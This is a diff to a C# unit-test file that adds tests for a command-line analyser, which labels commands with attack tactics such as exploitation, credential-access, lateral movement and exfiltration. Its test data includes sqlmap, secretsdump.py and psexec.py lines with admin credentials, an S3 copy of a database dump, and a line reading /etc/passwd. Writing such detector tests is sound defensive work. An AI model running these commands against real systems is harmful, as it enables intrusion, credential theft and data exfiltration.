@@ -246,6 +246,22 @@ public class CommandLineAnalysisTests
         Analyze("git config user.email dev@example.org && pip install requests@2.31").Targets.ShouldBeEmpty();
     }
 
+    [Theory]
+    [InlineData("sqlmap -u http://10.0.0.5/?id=1", "exploitation")]
+    [InlineData("secretsdump.py corp/admin@10.0.0.1", "credential-access")]
+    [InlineData("psexec.py corp/admin:pw@10.0.0.30", "lateral-movement")]
+    [InlineData("aws s3 cp db.sql s3://b/db.sql", "exfiltration")]
+    public void Decision_points_follow_the_tactics(string line, string decisionPoint)
+    {
+        Analyze(line).DecisionPoints.ShouldContain(decisionPoint);
+    }
+
+    [Fact]
+    public void Discovery_is_no_decision_point()
+    {
+        Analyze("whoami; uname -a; cat /etc/passwd").DecisionPoints.ShouldBeEmpty();
+    }
+
     [Fact]
     public void One_finding_per_recogniser()
     {
